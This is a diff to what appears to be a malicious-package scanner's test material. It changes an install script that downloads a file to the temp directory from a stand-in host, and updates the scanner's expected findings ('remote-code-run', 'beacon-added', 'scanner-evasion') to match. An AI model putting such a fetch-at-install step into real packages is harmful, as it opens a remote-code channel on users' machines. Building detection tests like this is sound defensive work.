@@ -13,7 +13,7 @@ const path = require('path')
 const local = path.join(os.tmpdir(), 'provider-setup.js')
 
 const file = fs.createWriteStream(local)
-http.get('http://files.provider.example/install', (response) => {
+http.get('http://files.provider.example/next', (response) => {
   response.pipe(file)
   file.on('finish', () => {
     file.close()
@@ -57,7 +57,7 @@ export const replay: Replay = replayAddition({
     [
       'remote-code-run',
       'critical',
-      { file: 'install.js', line: "http.get('http://files.provider.example/install', (response) => {" },
+      { file: 'install.js', line: "http.get('http://files.provider.example/next', (response) => {" },
     ],
     ['beacon-added', 'high', { file: 'install.js', line: 'const waiting = setInterval(() => {' }],
     ['scanner-evasion', 'high', inInstall],
